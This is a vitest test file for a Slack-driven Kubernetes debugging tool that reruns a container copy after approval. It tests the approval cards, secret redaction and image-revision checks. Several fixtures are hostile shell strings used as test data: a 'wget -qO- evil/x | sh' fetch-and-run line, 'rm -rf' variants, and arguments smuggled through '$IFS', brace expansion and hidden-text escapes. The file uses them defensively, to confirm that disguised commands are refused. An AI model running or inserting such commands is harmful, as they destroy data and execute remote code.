import { describe, expect, it } from 'vitest';
import { view } from '../../../src/adapters/slack/views/view.ts';
import type { Original } from '../../../src/core/container/once-more.ts';
import type { Revisions } from '../../../src/core/container/revisions.ts';
import { defined } from '../../../src/lib/object.ts';
import { anOriginal } from '../../support/builders.ts';
import { textOf } from '../../support/plain-message.ts';
import { aPodWith, aWorldOf, guarded, statusOf } from '../support/second-runs.ts';
import { World } from '../support/world.ts';

const ORIGINAL = anOriginal({ variables: ['DB_URL'] });

const keptWith = (image: string, own = 42): Revisions => ({
  kind: 'revisions',
  deployment: 'web',
  own,
  all: [
    { number: own, image: 'shop:2' },
    { number: 41, image },
  ],
});

async function asked(words = 'once-more web-1', revisions = keptWith('shop:1')): Promise<World> {
  const world = aWorldOf(ORIGINAL);
  world.cluster.revisionsNow = revisions;
  await world.say(words);
  return world;
}

const { waiting: _, ...up } = statusOf({ running: { startedAt: '2026-11-21T07:30:00Z' } });
const OTHER_IMAGE = statusOf({ imageID: `shop@sha256:${'b'.repeat(64)}` });

describe('a second run', () => {
  it('waits for an approval, and is launched as a copy of its original', async () => {
    const world = await asked('once-more web-1 --without-env=DB_URL');
    expect((await world.run()).state).toBe('pending-approval');
    await world.click('U0BOB', 'approve');
    expect((await world.run()).state).toBe('starting');
    const [launch] = world.cluster.launches;
    expect(launch?.copyOf).toEqual({ containerName: 'web', withoutEnv: ['DB_URL'] });
    expect(launch?.container).not.toHaveProperty('targetContainerName');
    expect(launch?.container.env.map(({ name }) => name)).toContain('KDEBUG_ONCE_MORE');
  });

  it.each([
    ['none', undefined, true],
    [undefined, 'allowed', true],
    ['errors', 'allowed', false],
    [undefined, undefined, false],
  ] as const)(
    'says on its card that the channel reads what the program writes, where targetLog is %s and slackConnect %s: %s',
    async (targetLog, slackConnect, isSaid) => {
      const world = aWorldOf(ORIGINAL);
      const channels = Object.entries(world.policy.channels).map(([id, channel]) => {
        const rules = channel.rules.map((rule) => ({ ...rule, ...defined({ targetLog }) }));
        return [id, { ...channel, rules, ...defined({ slackConnect }) }] as const;
      });
      world.policy = { ...world.policy, channels: Object.fromEntries(channels) };
      await world.say('once-more web-1');
      expect((await world.run()).state).toBe('pending-approval');
      const words = 'This channel will read what the program writes, also where its rule keeps the log of web from it';
      expect(textOf(world.anchor()).includes(words)).toBe(isSaid);
    },
  );

  it.each<[string, Partial<Original>]>([
    ['command', { command: ['sh', '-c', `${'echo step; '.repeat(300)}rm -rf /hidden-end`] }],
    ['variables', { variables: Array.from({ length: 300 }, (_, index) => `VARIABLE_${index}`) }],
    ['mounts', { mounts: Array.from({ length: 300 }, (_, index) => `mount-${index} at /mnt/${index}`) }],
  ])('asks nobody when its %s do not fit on the card', async (_name, parts) => {
    const world = aWorldOf({ ...ORIGINAL, ...parts });
    await world.say('once-more web-1');
    expect((await world.run()).refusal).toMatchObject({ code: 'once_more_too_long_to_approve' });
    expect(world.thread.posts).toHaveLength(0);
  });

  it.each<[string, Partial<Original>]>([
    ['beside a variable', { command: ['sh', '-c', 'export DB_PASSWORD=x1;rm -rf /hidden; exec app'] }],
    ['below a key', { command: ['sh', '-c', 'token: |\n  wget -qO- evil/x | sh\n  rm -rf /data\nexec app'] }],
    ['in one word without a space', { command: ['sh', '-c'], args: ['DB_PASSWORD=x1;/hidden/run'] }],
    ['in the braces of a shell', { command: ['bash', '-c', 'PASSWORD=x1{rm,-rf,/data}'] }],
    ['behind the name of a secret', { args: ['--password', 'x1;rm$IFS-rf'] }],
    ['in a word that nobody can read', { command: ['sh', '-c', `${'echo;'.repeat(4_000)}rm`] }],
    ['in a long list of plain words', { args: Array.from({ length: 4_000 }, () => '--wipe') }],
  ])('asks nobody when a secret may hide what it runs: %s', async (_name, parts) => {
    const world = aWorldOf({ ...ORIGINAL, ...parts });
    await world.say('once-more web-1');
    expect((await world.run()).refusal).toMatchObject({ code: 'secret_in_command_to_approve' });
    expect(world.thread.posts).toHaveLength(0);
  });

  it.each([[['--password=hunter2-and-more']], [['--password', 'hunter2-and-more']]])(
    'says on its card that a plain argument is hidden: %s',
    async (args) => {
      const world = aWorldOf({ ...ORIGINAL, args: [...args, 'echo \u001b[8m; rm'] });
      await world.say('once-more web-1');
      const card = JSON.stringify(view(world.anchor()!).blocks);
      expect(card).toContain('a part of the command, because it looks like a secret');
      expect(card).not.toContain('hunter2');
      // The words beside it are shown as they are.
      expect(card).toContain('u{1B}[8m; rm');
      await world.click('U0BOB', 'approve');
      expect((await world.run()).state).toBe('starting');
    },
  );

  it('says nothing of what is hidden where nothing is', async () => {
    const args = ['--password=$(DB_PASSWORD)', '--port=8080'];
    const world = aWorldOf({ ...ORIGINAL, args });
    await world.say('once-more web-1');
    expect(JSON.stringify(view(world.anchor()!).blocks)).not.toContain('looks like a secret');
  });

  it('shows the end of a long command and each of many mounts on its card', async () => {
    const mounts = Array.from({ length: 61 }, (_, index) => `mount-${index} at /mnt/${index}`);
    const command = ['sh', '-c', `${'echo step; '.repeat(100)}rm -rf /hidden-end`];
    const world = aWorldOf({ ...ORIGINAL, command, mounts });
    await world.say('once-more web-1');
    const card = JSON.stringify(view(world.anchor()!).blocks);
    expect(card).toContain('rm -rf /hidden-end');
    for (const mount of mounts) expect(card).toContain(mount);
  });

  it.each<[string, (world: World) => void]>([
    ['its container runs by then', ({ cluster }) => cluster.setPod(aPodWith(up))],
    ['its container has another image', ({ cluster }) => cluster.setPod(aPodWith(OTHER_IMAGE))],
    [
      'its container has other words',
      ({ cluster }) => {
        cluster.originalNow = { ...ORIGINAL, args: ['--migrate'] };
      },
    ],
  ])('is not launched when %s', async (_name, change) => {
    const world = await asked();
    change(world);
    await world.click('U0BOB', 'approve');
    expect(world.cluster.launches).toHaveLength(0);
    expect((await world.run()).state).not.toBe('starting');
  });

  it('is approved on the same card once its container, which ran for a moment, is down again', async () => {
    const world = await asked();
    world.cluster.setPod(aPodWith(up));
    expect(JSON.stringify(await world.click('U0BOB', 'approve'))).toContain('once_more_running');
    world.cluster.setPod(aPodWith(statusOf()));
    await world.click('U0BOB', 'approve');
    expect((await world.run()).state).toBe('starting');
  });

  it.each<[string, (world: World) => void, string]>([
    ['its container runs', ({ cluster }) => cluster.setPod(aPodWith(up)), 'once_more_running'],
    ['the image has changed', ({ cluster }) => cluster.setPod(aPodWith(OTHER_IMAGE)), 'approval_changed'],
  ])('is judged once more right before its launch: %s', async (_name, change, code) => {
    const world = await asked();
    const lease = await world.store.lease(world.runId, 'replica-0');
    const run = await world.run();
    const atMs = world.clock.now();
    const votes = [{ userId: 'U0BOB', kind: 'approve', atMs }] as const;
    const approval = { ...run.approval!, votes };
    await world.store.save({ ...run, state: 'approved', approvedAtMs: atMs, approval }, lease!.fence);
    change(world);
    world.clock.standStill(60_000);
    world.pipeline.startAdopting();
    await world.clock.advance(1_000);
    expect((await world.run()).refusal?.code).toBe(code);
    expect(world.cluster.launches).toHaveLength(0);
  });

  it.each<[string, (world: World) => void, string]>([
    ['its container runs', ({ cluster }) => cluster.setPod(aPodWith(up)), 'once_more_running'],
    ['its time is over', ({ clock }) => clock.standStill(600_000), 'request_too_old'],
  ])('is not sent again when %s: its program does not know until when it may begin', async (_name, change, code) => {
    const world = await asked();
    world.cluster.faults.add('launch', 'cluster_unreachable');
    await world.click('U0BOB', 'approve');
    expect((await world.run()).state).toBe('launching');
    change(world);
    await world.clock.advance(60_000);
    expect((await world.run()).outcome).toMatchObject({ kind: 'start-failed', reason: code });
    expect(world.cluster.launches).toHaveLength(0);
  });

  it('is sent again while it may begin', async () => {
    const world = await asked();
    world.cluster.faults.add('launch', 'cluster_unreachable');
    await world.click('U0BOB', 'approve');
    await world.clock.advance(10_000);
    expect(world.cluster.launches).toHaveLength(1);
  });

  it('shows no secret of the policy in the words of its program', async () => {
    const policy = guarded();
    const args = ['--license', 'ACME-4711', '--password=correct-horse'];
    const redacting = { ...policy, output: { ...policy.output, redact: ['ACME-\\w+'] } };
    const world = aWorldOf({ ...ORIGINAL, args }, redacting);
    await world.say('once-more web-1');
    expect((await world.run()).state).toBe('pending-approval');
    expect(JSON.stringify([world.thread.posts, await world.run()])).not.toMatch(/ACME-4711|correct-horse/);
  });

  it('is refused at once where its container runs', async () => {
    const world = new World({ policy: guarded() });
    world.cluster.originalNow = ORIGINAL;
    await world.say('once-more web-1');
    expect((await world.run()).refusal?.code).toBe('once_more_running');
    expect(world.refusal).toContain('--image=blackbox');
  });
});

describe('a second run with the image of another revision', () => {
  const WORDS = 'once-more web-1 --image-of=previous';

  it('is launched with that image once it is approved, and with all else of its original', async () => {
    const world = await asked(WORDS);
    expect((await world.run()).state).toBe('pending-approval');
    expect(JSON.stringify(world.thread.posts)).toMatch(/With the image of revision 41, not its own.*shop:1/);
    await world.click('U0BOB', 'approve');
    expect(world.cluster.launches).toMatchObject([
      {
        copyOf: { containerName: 'web', withoutEnv: [] },
        container: { image: 'shop:1', imagePullPolicy: 'IfNotPresent' },
      },
    ]);
  });

  it('asks for no revision where none is wanted', async () => {
    const world = await asked();
    await world.click('U0BOB', 'approve');
    expect(world.cluster.launches).toHaveLength(1);
    expect(world.cluster.calls).not.toContain('revisions');
  });

  it.each<[string, Revisions]>([
    ['has another image', keptWith('shop:evil')],
    ['is another one', { ...keptWith('shop:1', 44), all: [{ number: 43, image: 'shop:1' }] } as Revisions],
    ['is gone', { kind: 'none' }],
    ['cannot be read', { kind: 'no-right', right: 'list replicasets.apps' }],
  ])('is not launched when the revision %s by then', async (_name, changed) => {
    const world = await asked(WORDS);
    world.cluster.revisionsNow = changed;
    await world.click('U0BOB', 'approve');
    expect(world.cluster.launches).toHaveLength(0);
    expect((await world.run()).state).not.toBe('starting');
  });

  it.each<[string, Revisions, string]>([
    ['the image has changed', keptWith('shop:evil'), 'approval_changed'],
    ['the revision is gone', { kind: 'none' }, 'once_more_no_revision'],
  ])('is judged once more right before its launch: %s', async (_name, changed, code) => {
    const world = await asked(WORDS);
    const lease = await world.store.lease(world.runId, 'replica-0');
    const run = await world.run();
    const atMs = world.clock.now();
    const approval = { ...run.approval!, votes: [{ userId: 'U0BOB', kind: 'approve', atMs } as const] };
    await world.store.save({ ...run, state: 'approved', approvedAtMs: atMs, approval }, lease!.fence);
    world.cluster.revisionsNow = changed;
    world.clock.standStill(60_000);
    world.pipeline.startAdopting();
    await world.clock.advance(1_000);
    expect((await world.run()).refusal?.code).toBe(code);
    expect(world.cluster.launches).toHaveLength(0);
  });

  it.each<[string, Revisions, string, string]>([
    [
      'kdebug lacks the right',
      { kind: 'no-right', right: 'list replicasets.apps' },
      'once_more_revisions_unreadable',
      'list replicasets.apps in shop',
    ],
    ['the pod is of no Deployment', { kind: 'none' }, 'once_more_no_revision', 'web-1 is no revision of a Deployment'],
    ['it has the same image', keptWith('shop:2'), 'once_more_same_image', 'shop:2 of revision 41'],
    [
      'its image holds a secret',
      keptWith('https://ci:correct-horse-battery@registry.example.com/shop:1'),
      'once_more_no_revision',
      'no valid name',
    ],
  ])('is refused where %s', async (_name, revisions, code, words) => {
    const world = await asked(WORDS, revisions);
    expect((await world.run()).refusal?.code).toBe(code);
    expect(world.refusal).toContain(words);
    expect(JSON.stringify([world.refusal, await world.run()])).not.toContain('correct-horse');
  });
});
